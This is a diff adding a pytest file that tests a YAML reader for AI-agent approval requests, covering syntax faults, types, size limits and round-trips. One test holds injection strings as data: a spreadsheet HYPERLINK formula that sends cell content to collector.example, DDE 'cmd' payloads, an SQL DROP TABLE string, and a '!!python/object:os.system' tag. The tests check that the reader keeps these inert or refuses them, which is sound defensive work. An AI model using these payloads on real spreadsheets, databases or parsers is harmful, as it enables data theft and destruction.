@@ -1,0 +1,359 @@
+"""Requests as files: what is read, what is refused, and in which words."""
+
+import time
+import tracemalloc
+from pathlib import Path
+
+import pytest
+import yaml
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from approvals.rules.content import FIELDS, Type, answer
+from approvals.rules.intake import (
+    MAX_BYTES,
+    Intake,
+    check_content,
+    read_yaml,
+    size_fault,
+    write_yaml,
+)
+
+DATA = Path(__file__).parent.parent / "data" / "requests"
+EXAMPLES = sorted(DATA.glob("*.yaml"))
+HEAD = (
+    "agent_metadata:\n  name: A name\n  business_owner: b@x.example\n"
+    "  technical_owner: t@x.example\n"
+)
+
+
+def read(name: str) -> Intake:
+    return read_yaml((DATA / "bad" / name).read_bytes())
+
+
+def told(intake: Intake) -> dict[str, tuple[str, int | None]]:
+    return {fault.path: (fault.code, fault.line) for fault in intake.faults}
+
+
+def codes(text: str | bytes) -> list[str]:
+    data = text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")
+    return [fault.code for fault in read_yaml(data).faults]
+
+
+@pytest.mark.parametrize("file", EXAMPLES, ids=lambda f: f.stem)
+def test_an_example_is_read_without_fault_and_says_what_the_file_says(file: Path):
+    intake = read_yaml(file.read_bytes())
+    assert intake.faults == () and intake.unknown == ()
+    plain = yaml.safe_load(file.read_text())
+    for field in FIELDS:
+        if field.type in (Type.YES_NO, Type.WHOLE_NUMBER, Type.TEXTS, Type.TEXT, Type.MONEY):
+            given_ = answer(plain, field.path)
+            assert answer(intake.content, field.path) == given_
+
+
+@pytest.mark.parametrize("file", EXAMPLES, ids=lambda f: f.stem)
+def test_an_example_is_written_and_read_back_as_the_same_content(file: Path):
+    content = read_yaml(file.read_bytes()).content
+    assert read_yaml(write_yaml(content).encode()).content == content
+
+
+def test_a_syntax_error_is_told_with_line_column_and_the_line_shown():
+    (fault,) = read("01-yaml-syntax-error.yaml").faults
+    assert fault.code == "yaml.not_yaml"
+    assert (fault.line, fault.column, fault.shown) == (3, 12, '  version: "0.9.3')
+    assert "not valid YAML" in fault.text and "Traceback" not in fault.text
+
+
+def test_a_wrong_bracket_is_told_where_it_stands():
+    (fault,) = read_yaml(HEAD.encode() + b"  systems: [a, b}\n").faults
+    assert (fault.code, fault.line, fault.column) == ("yaml.not_yaml", 5, 17)
+
+
+def test_misspelled_keys_are_named_with_what_was_meant_and_their_values_are_kept():
+    intake = read("02-unknown-and-misspelled-keys.yaml")
+    assert {(key.path, key.meant, key.line) for key in intake.unknown} == {
+        ("agent_metadata.tecnical_owner", "technical_owner", 6),
+        ("monitoring_plan.metrics_trackd", "metrics_tracked", 125),
+        ("deployment_wishes", "", 129),
+    }
+    assert "Did you mean technical_owner?" in intake.unknown[0].text
+    assert intake.content["deployment_wishes"]["preferred_weekday"] == "Tuesday"
+    again = read_yaml(write_yaml(intake.content).encode())
+    assert again.content == intake.content
+    assert told(intake) == {"agent_metadata.technical_owner": ("answer.missing", 1)}
+
+
+def test_a_known_key_in_the_wrong_place_is_told_its_right_one():
+    (key,) = read_yaml(HEAD.encode() + b"  regulated_data: true\n").unknown
+    assert key.meant == "agent_capabilities.regulated_data"
+
+
+def test_wrong_types_are_told_all_at_once_with_what_was_found_and_expected():
+    intake = read("03-wrong-types.yaml")
+    risk = "security_assessment.risk_assessment[0]"
+    wrong = "answer.wrong_type"
+    assert told(intake) == {
+        "business_justification.success_metrics": (wrong, 10),
+        "business_justification.estimated_monthly_interactions": (wrong, 11),
+        "agent_capabilities.tools_requested": (wrong, 14),
+        "agent_capabilities.regulated_data": (wrong, 22),
+        "agent_capabilities.autonomy_limits.daily_budget": (wrong, 34),
+        f"{risk}.risk": (wrong, 54),
+        f"{risk}.likelihood": (wrong, 57),
+        f"{risk}.impact": (wrong, 58),
+        f"{risk}.mitigation": ("answer.row_part_missing", 59),
+        f"{risk}.residual_likelihood": (wrong, 60),
+        "monitoring_plan.alert_thresholds": (wrong, 74),
+    }
+    texts = " ".join(fault.text for fault in intake.faults)
+    assert "found the text “probably”, expected yes or no" in texts
+    assert "found the number 40, expected a sum with value and currency" in texts
+
+
+@pytest.mark.parametrize("word", ["probably", "'true'", "1", "y", "TRUEISH", "[true]", "0.0"])
+def test_what_is_neither_yes_nor_no_never_becomes_one(word: str):
+    text = f"agent_capabilities:\n  regulated_data: {word}\n"
+    value = answer(read_yaml(text.encode()).content, "agent_capabilities.regulated_data")
+    assert not isinstance(value, bool)
+    assert "answer.wrong_type" in codes(text)
+
+
+@pytest.mark.parametrize("word", ["true", "True", "yes", "on"])
+def test_yes_is_yes(word: str):
+    intake = read_yaml(f"{HEAD}agent_capabilities:\n  regulated_data: {word}\n".encode())
+    assert intake.content["agent_capabilities"] == {"regulated_data": True}
+    assert intake.faults == ()
+
+
+def test_missing_and_blank_owners_are_named_in_the_words_of_the_form():
+    intake = read("04-missing-owners.yaml")
+    assert [fault.text for fault in intake.faults] == [
+        "Business owner is missing.",
+        "Technical owner is missing.",
+    ]
+    assert [fault.line for fault in intake.faults] == [1, 4]
+
+
+def test_impossible_dates_are_named_with_their_question():
+    intake = read("05-impossible-date.yaml")
+    assert told(intake) == {
+        "agent_metadata.proposed_production_date": ("answer.impossible_date", 6),
+        "security_assessment.kill_switch_tested_on": ("answer.impossible_date", 91),
+    }
+    assert "no 2027-02-30 in the calendar" in intake.faults[0].text
+
+
+@pytest.mark.parametrize("text", ["2027-2-3", "tomorrow", "2027-02-15T10:00:00Z", "20270215", "７"])
+def test_a_date_in_another_form_is_told_the_form(text: str):
+    text = f"{HEAD}  proposed_production_date: {text}\n"
+    assert codes(text) == ["answer.wrong_type"]
+
+
+def test_three_mebibytes_are_refused_by_size_before_anything_is_parsed():
+    data = b"agent_metadata:\n  name: " + b"The same sentence again. " * 126_000
+    tracemalloc.start()
+    begun = time.perf_counter()
+    (fault,) = read_yaml(data).faults
+    assert time.perf_counter() - begun < 0.1
+    assert tracemalloc.get_traced_memory()[1] < 100_000
+    tracemalloc.stop()
+    assert fault.text == ("The file has 3.0 MiB; at most 256 KiB are accepted. It was not read.")
+
+
+def test_the_largest_file_is_read_and_one_byte_more_is_not():
+    filler = HEAD.encode() + b"#" * (MAX_BYTES - len(HEAD))
+    assert read_yaml(filler).faults == ()
+    assert codes(filler + b"#") == ["yaml.too_big"]
+    assert size_fault(MAX_BYTES) is None
+
+
+def test_an_alias_bomb_is_refused_at_once_and_memory_stays_flat():
+    data = (DATA / "bad" / "07-alias-bomb.yaml").read_bytes()
+    tracemalloc.start()
+    begun = time.perf_counter()
+    intake = read_yaml(data)
+    assert time.perf_counter() - begun < 1
+    assert tracemalloc.get_traced_memory()[1] < 2_000_000
+    tracemalloc.stop()
+    assert [fault.code for fault in intake.faults] == ["yaml.anchor", "yaml.alias"]
+    assert "Aliases are not accepted" in intake.faults[1].text
+    assert sum(len(fault.text) for fault in intake.faults) < 300
+
+
+def test_markup_and_formulas_are_only_text_and_come_back_unchanged():
+    intake = read("08-markup-and-formula.yaml")
+    assert intake.faults == ()
+    name = answer(intake.content, "agent_metadata.name")
+    assert name == '=HYPERLINK("https://collector.example/?x="&A1,"Claims Guide")'
+    rollback = answer(intake.content, "security_assessment.rollback_design")
+    assert rollback == "'); DROP TABLE approvals_request; -- switch off"
+    assert answer(intake.content, "monitoring_plan.human_review_triggers")[:2] == [
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd",
+    ]
+    assert read_yaml(write_yaml(intake.content).encode()).content == intake.content
+
+
+def test_the_plain_template_loads():
+    intake = read_yaml((DATA / "plain-template.yaml").read_bytes())
+    assert intake.faults == ()
+    assert answer(intake.content, "monitoring_plan.alert_thresholds") == {
+        "error_rate_critical": "0.06",
+        "latency_p95_ms": "9000",
+    }
+
+
+def test_a_version_stays_the_text_that_was_written():
+    intake = read_yaml(f"{HEAD}  version: 1.0\n".encode())
+    assert answer(intake.content, "agent_metadata.version") == "1.0"
+
+
+@pytest.mark.parametrize(
+    ("text", "code"),
+    [
+        ("", "yaml.empty"),
+        ("# only a remark\n", "yaml.empty"),
+        ("- a\n- b\n", "yaml.not_a_mapping"),
+        ("just words\n", "yaml.not_a_mapping"),
+        (f"{HEAD}---\na: b\n", "yaml.several_documents"),
+        (f"{HEAD}  systems: !!python/object:os.system [x]\n", "yaml.tag"),
+        (f"{HEAD}  version: !mine 1\n", "yaml.tag"),
+        (f"{HEAD}  version: &a 1\n", "yaml.anchor"),
+        (f"{HEAD}  name: again\n", "yaml.duplicate_key"),
+        (f"{HEAD}agent_metadata:\n  name: x\n", "yaml.duplicate_key"),
+        (f"{HEAD}  [a, b]: c\n", "yaml.key_not_text"),
+        (f"{HEAD}  systems: {'[' * 21}{']' * 21}\n", "yaml.too_deep"),
+        ("[" * 200_000, "yaml.too_deep"),
+        (f"{HEAD}  systems: [{'a,' * 25_000}]\n", "yaml.too_many_entries"),
+        (f"{HEAD}  version: a\x00b\n", "yaml.not_yaml"),
+        (f'{HEAD}  version: "a\\0b"\n', "answer.forbidden_character"),
+        (f'{HEAD}deployment: "\\x07"\n', "answer.forbidden_character"),
+        (b"agent_metadata:\n  name: \xff\xfe\n", "yaml.not_utf8"),
+        ("agent_metadata: x".encode("utf-16"), "yaml.not_utf8"),
+        (f"{HEAD}  name2: {{\n", "yaml.not_yaml"),
+        (f"{HEAD}  kind: pilot\n", "answer.not_accepted_here_yet"),
+        (f"{HEAD}  kind: party\n", "answer.not_a_choice"),
+        (f"{HEAD}  slug: Not A Slug\n", "answer.pattern"),
+        (f"{HEAD}  version: {'x' * 61}\n", "answer.too_long"),
+        (f"{HEAD}  systems: [{', '.join(['a'] * 201)}]\n", "answer.too_many"),
+    ],
+)
+def test_a_file_is_refused_with_its_fault(text: str | bytes, code: str):
+    assert code in codes(text)
+
+
+def test_a_lone_surrogate_is_refused():
+    assert codes(f'{HEAD}  version: "\\ud800"\n')[0] in {
+        "yaml.not_yaml",
+        "answer.forbidden_character",
+    }
+    broken = {"agent_metadata": {"version": "\ud800"}}
+    assert [f.code for f in check_content(broken)] == ["answer.forbidden_character"]
+
+
+@pytest.mark.parametrize(
+    ("money", "code"),
+    [
+        ("{value: '1.234', currency: EUR}", "answer.currency"),
+        ("{value: '1.5', currency: JPY}", "answer.currency"),
+        ("{value: '1e3', currency: EUR}", "answer.wrong_type"),
+        ("{value: '-1', currency: EUR}", "answer.wrong_type"),
+        ("{value: '01', currency: EUR}", "answer.wrong_type"),
+        ("{value: '1', currency: eur}", "answer.wrong_type"),
+        ("{value: '1'}", "answer.wrong_type"),
+        ("40", "answer.wrong_type"),
+    ],
+)
+def test_a_sum_has_a_value_as_text_and_a_currency(money: str, code: str):
+    text = f"{HEAD}agent_capabilities:\n  autonomy_limits:\n    daily_budget: {money}\n"
+    assert codes(text) == [code]
+
+
+def test_windows_line_ends_and_a_byte_order_mark_change_nothing():
+    data = b"\xef\xbb\xbf" + EXAMPLES[1].read_bytes().replace(b"\n", b"\r\n")
+    assert read_yaml(data).content == read_yaml(EXAMPLES[1].read_bytes()).content
+
+
+def test_two_tools_of_one_name_are_a_fault():
+    row = "    - {name: t, permissions: p}\n"
+    text = f"{HEAD}agent_capabilities:\n  tools_requested:\n{row}{row}"
+    assert codes(text) == ["answer.twice"]
+
+
+def test_a_file_with_thousands_of_faults_lists_the_first_and_counts_the_rest():
+    keys = "".join(f"  k{n}: !x 1\n" for n in range(5_000))
+    wrong = "agent_capabilities:\n  tools_requested:\n" + "    - 1\n" * 100
+    intake = read_yaml((HEAD + keys + wrong + "monitoring_plan: 1\n").encode())
+    assert len(intake.faults) <= 200 and len(intake.unknown) <= 200
+    assert intake.faults[0].code == "yaml.tag"
+
+
+def test_the_form_is_held_to_the_same_rules_as_a_file():
+    content = {
+        "agent_metadata": {"name": "x" * 121, "proposed_production_date": "2027-02-30"},
+        "agent_capabilities": {"regulated_data": "yes", "writes_data": 1},
+        "monitoring_plan": {"alert_thresholds": {"a": 0.5}},
+        "extra": {"deep": 1.5},
+    }
+    assert [(fault.code, fault.path) for fault in check_content(content)] == [
+        ("answer.too_long", "agent_metadata.name"),
+        ("answer.impossible_date", "agent_metadata.proposed_production_date"),
+        ("answer.wrong_type", "agent_capabilities.regulated_data"),
+        ("answer.wrong_type", "agent_capabilities.writes_data"),
+        ("answer.wrong_type", "monitoring_plan.alert_thresholds.a"),
+        ("answer.wrong_type", "extra"),
+    ]
+
+
+JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
+    max_leaves=12,
+)
+KEYS = st.sampled_from([field.key for field in FIELDS]) | st.text(max_size=8)
+SECTIONS = st.sampled_from(sorted({field.section for field in FIELDS})) | st.text(max_size=8)
+CONTENTS = st.dictionaries(SECTIONS, st.dictionaries(KEYS, JSON, max_size=6) | JSON, max_size=4)
+
+
+@given(CONTENTS)
+@settings(max_examples=150, deadline=None)
+def test_no_content_makes_the_check_raise(content):
+    for fault in check_content(content):
+        assert fault.text and fault.as_json()
+
+
+@given(st.binary(max_size=400) | st.text(max_size=400).map(str.encode))
+@settings(max_examples=200, deadline=None)
+def test_no_bytes_make_the_reader_raise(data: bytes):
+    intake = read_yaml(data)
+    assert intake.faults  # nothing random names its owners
+
+
+@given(CONTENTS)
+@settings(max_examples=150, deadline=None)
+def test_no_yaml_makes_the_reader_raise(content):
+    text = yaml.safe_dump(content, allow_unicode=True)
+    for fault in read_yaml(text.encode("utf-8", "replace")).faults:
+        assert fault.text
+
+
+TEXTS = st.text(
+    st.characters(
+        exclude_categories=["Cs"], exclude_characters="\x7f\ufffe\uffff\r", min_codepoint=9
+    ).filter(lambda c: c in "\t\n" or c >= " "),
+    min_size=1,
+    max_size=40,
+)
+
+
+@given(TEXTS, TEXTS, st.booleans(), st.lists(TEXTS, max_size=3), st.dictionaries(TEXTS, TEXTS))
+@settings(max_examples=300, deadline=None)
+def test_what_is_written_reads_back_the_same(problem, version, flag, lines, extra):
+    content = {
+        "agent_metadata": {"name": "A", "version": version, "systems": lines},
+        "business_justification": {"problem_statement": problem},
+        "agent_capabilities": {"regulated_data": flag},
+        "zz_own": {"x": extra, "y": [flag, 7, problem, None, {"k": version}]},
+    }
+    again = read_yaml(write_yaml(content).encode())
+    assert again.content == content
